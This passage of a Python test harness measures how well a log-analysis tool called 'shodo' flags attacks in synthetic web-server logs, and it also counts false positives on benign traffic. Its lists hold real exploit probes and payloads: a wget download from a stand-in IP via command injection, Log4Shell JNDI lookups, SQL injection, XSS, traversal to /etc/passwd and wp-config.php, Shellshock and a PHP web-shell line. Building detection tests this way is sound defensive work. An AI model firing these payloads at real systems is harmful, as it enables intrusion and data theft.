    '/hello.world?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input',
    '/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Bwget%20http%3A%2F%2F203.0.113.9%2Fx',
    '/picsdesc.xml',
    '/ctrlt/DeviceUpgrade_1',
    '/Autodiscover/Autodiscover.xml',
    '/geoserver/web/',
    '/nice%20ports%2C/Tri%6Eity.txt%2ebak',
    '/sdk',
    '/evox/about',
    '/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php',
    '/wp-content/plugins/revslider/temp/update_extract/revslider/x.php',
    '/index.php?option=com_jce&task=plugin&plugin=imgmanager&file=imgmanager&method=form',
    '/public/index.php?s=captcha',
    '/plugins/weathermap/editor.php',
    '/mifs/.;/services/LogService',
    '/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22%66%72%65%65%6d%61%72%6b%65%72%2e%74%65%6d%70%6c%61%74%65%2e%75%74%69%6c%69%74%79%2e%45%78%65%63%75%74%65%22%3f%6e%65%77%28%29%28%22%69%64%22%29%7d',
]

# Payloads where scanners also put them: the path, the Referer, the User-Agent, a
# parameter's name.
PLACED = [
    ('path', '/${jndi:ldap://203.0.113.5/a}/index.html'),
    ('path', '/index.php/%3Cscript%3Ealert(1)%3C/script%3E'),
    ('path', "/product/1'%20or%20'1'='1"),
    ('path', '/product/1%20union%20select%201,2,3--'),
    ('path', '/static/..%2f..%2f..%2fetc%2fpasswd'),
    ('path', '/cgi-bin/;id'),
    ('path', '/search/%7B%7B7*7%7D%7D'),
    ('path', '/api/v1/users/1;sleep(5)'),
    ('referer', '${jndi:ldap://203.0.113.5/a}'),
    ('referer', '<script>alert(1)</script>'),
    ('referer', "' or 1=1--"),
    ('referer', '() { :; }; /bin/bash -c id'),
    ('referer', 'http://203.0.113.5/?q=../../../../etc/passwd'),
    ('ua', '<script>alert(1)</script>'),
    ('ua', "' or sleep(5)#"),
    ('ua', 'Mozilla/5.0 ${jndi:ldap://x.example/a}'),
    ('ua', "<?php system($_GET['c']); ?>"),
    ('path', '/index.php?<script>=1'),
    ('path', "/index.php?1'%20or%201=1--=x"),
    ('path', '/index.php?__proto__[admin]=1'),
]


def enc(p, how):
    if how == 0:  # as a browser sends it
        return urllib.parse.quote(p, safe="/:=&?()*,;'!$@~[]{}|")
    if how == 1:  # + for spaces
        return urllib.parse.quote_plus(p)
    if how == 2:  # percent-encoded twice
        return urllib.parse.quote(urllib.parse.quote(p, safe=""), safe="")
    return urllib.parse.quote(p, safe="/:=&?()*,;'!$@~[]{}|<>\"`^")  # as a lax server logs it


def hunt(shodo, log_lines, path, log_format="combined"):
    with open(path, "w") as f:
        f.write("\n".join(log_lines) + "\n")
    out = subprocess.run([shodo, "hunt", "--quiet", "--no-detectors", "--format", "jsonl",
                          "--log-format", log_format, path], capture_output=True, text=True).stdout
    hits = collections.defaultdict(list)
    for line in out.splitlines():
        f = json.loads(line)
        hits[f["log.file.line"]].append((f["rule.title"], f["rule.level"]))
    return hits


def main():
    shodo = sys.argv[1]
    show_misses = "--misses" in sys.argv
    rnd = random.Random(7)
    work = tempfile.mkdtemp(prefix="shodo-blind-")
    BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
    lines, labels = [], []
    params = ["q", "id", "page", "file", "search", "url", "name", "cat"]
    for i, (cls, where, p) in enumerate(P):
        for how in range(4):
            ua = BROWSER; path = "/index.php"; method = "GET"
            if where == "q":
                prm = rnd.choice(params)
                tgt = f"{path}?{prm}={enc(p, how)}" if rnd.random() < 0.7 else f"{path}?lang=en&{prm}={enc(p, how)}&sort=asc"
            elif where == "ua":
                if how > 1: continue
                tgt = "/"; ua = p
            elif where == "ua_only":
                if how > 0: continue
                tgt = rnd.choice(["/", "/index.php", "/login", "/robots.txt"]); ua = p
            else:
                if how > 0: continue
                tgt = p
            method = "POST" if where == "post" else "GET"
            ua = ua.replace('"', '\\"')
            tgt = tgt.replace('"', '%22').replace(' ', '%20')
            lines.append(f'203.0.113.{i%200+1} - - [29/Feb/2024:15:{i%60:02d}:{how:02d} +0000] "{method} {tgt} HTTP/1.1" 404 196 "-" "{ua}"')
            labels.append((cls, p, how, tgt))
    hits = hunt(shodo, lines, os.path.join(work, "attacks.log"))
    tot = collections.Counter()
    det = collections.Counter()
    misses = []
    for n, (cls, p, how, tgt) in enumerate(labels, 1):
        tot[cls] += 1
        if n in hits:
            det[cls] += 1
        else:
            misses.append((cls, how, p))
    for c in tot:
        print(f"{c:12s} {det[c]:4d} / {tot[c]:4d}")
    print(f"attacks detected: {sum(det.values())} / {sum(tot.values())}")
    if show_misses:
        for cls, how, p in misses:
            print("MISS", cls, "encoding", how, p)
    probes = [f'203.0.113.{i % 200 + 1} - - [29/Feb/2024:17:{i % 60:02d}:00 +0000] '
              f'"GET {p} HTTP/1.1" 404 196 "-" "{BROWSER}"' for i, p in enumerate(EXPLOIT_PROBES)]
    found = hunt(shodo, probes, os.path.join(work, "probes.log"))
    print(f"exploit and console probes detected: {len(found)} / {len(EXPLOIT_PROBES)}")
    if show_misses:
        for n, p in enumerate(EXPLOIT_PROBES, 1):
            if n not in found:
                print("MISS probe", p)
    placed = []
    for i, (where, p) in enumerate(PLACED):
        path = p if where == "path" else "/"
        referer = p.replace('"', '\\"') if where == "referer" else "-"
        agent = p.replace('"', '\\"') if where == "ua" else BROWSER
        placed.append(f'203.0.113.{i + 1} - - [29/Feb/2024:18:00:{i:02d} +0000] '
                      f'"GET {path} HTTP/1.1" 200 512 "{referer}" "{agent}"')
    found = hunt(shodo, placed, os.path.join(work, "placed.log"))
    print(f"payloads in the path, Referer and User-Agent detected: {len(found)} / {len(PLACED)}")
    if show_misses:
        for n, (where, p) in enumerate(PLACED, 1):
            if n not in found:
                print("MISS", where, p)
    ua = ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 "
          "(KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1")
    benign = [f'198.51.100.{i % 200 + 1} - - [29/Feb/2024:16:{i % 60:02d}:00 +0000] '
              f'"GET {t} HTTP/1.1" 200 5120 "https://shop.example.jp/" "{ua}"' for i, t in enumerate(B)]
    flagged = hunt(shodo, benign, os.path.join(work, "benign.log"))
    print(f"benign flagged: {len(flagged)} / {len(B)}")
    for n, titles in sorted(flagged.items()):
        print("FLAGGED", B[n - 1], "|", "; ".join(t for t, _ in titles))
    history = SHELL_ATTACKS + SHELL_BENIGN
    flagged = hunt(shodo, history, os.path.join(work, ".bash_history"), "bash_history")
    caught = [n for n in range(1, len(SHELL_ATTACKS) + 1) if n in flagged]
    print(f"shell history attacks detected: {len(caught)} / {len(SHELL_ATTACKS)}")
    if show_misses:
        for n in range(1, len(SHELL_ATTACKS) + 1):
            if n not in flagged:
                print("MISS shell", SHELL_ATTACKS[n - 1])
    wrong = [n for n in flagged if n > len(SHELL_ATTACKS)]
    print(f"shell history benign commands flagged: {len(wrong)} / {len(SHELL_BENIGN)}")
    for n in sorted(wrong):
        print("FLAGGED", history[n - 1], "|", "; ".join(t for t, _ in flagged[n]))
    for name, labelled in (("auth.log", AUTH_LINES), ("cron syslog", CRON_LINES)):
        # An attack line counts when any finding cites it; another line only when a
        # finding of medium level or above does (low and informational ones are context:
        # an accepted key, a scheduler that runs as the web user).
        found = hunt(shodo, [l for l, _ in labelled], os.path.join(work, "syslog"), "syslog")
        attacks = [n for n, (_, a) in enumerate(labelled, 1) if a]
        caught = [n for n in attacks if n in found]
        print(f"{name} attack lines flagged: {len(caught)} / {len(attacks)}")
        if show_misses:
            for n in attacks:
                if n not in found:
                    print("MISS", name, labelled[n - 1][0])
        others = [n for n, (_, a) in enumerate(labelled, 1) if a is False]
        serious = [n for n in others
                   if any(level not in ("low", "informational") for _, level in found.get(n, []))]
        print(f"{name} other lines flagged at medium or above: {len(serious)} / {len(others)}")
        for n in serious:
            print("FLAGGED", labelled[n - 1][0], "|", "; ".join(t for t, _ in found[n]))

if __name__ == "__main__":
    main()
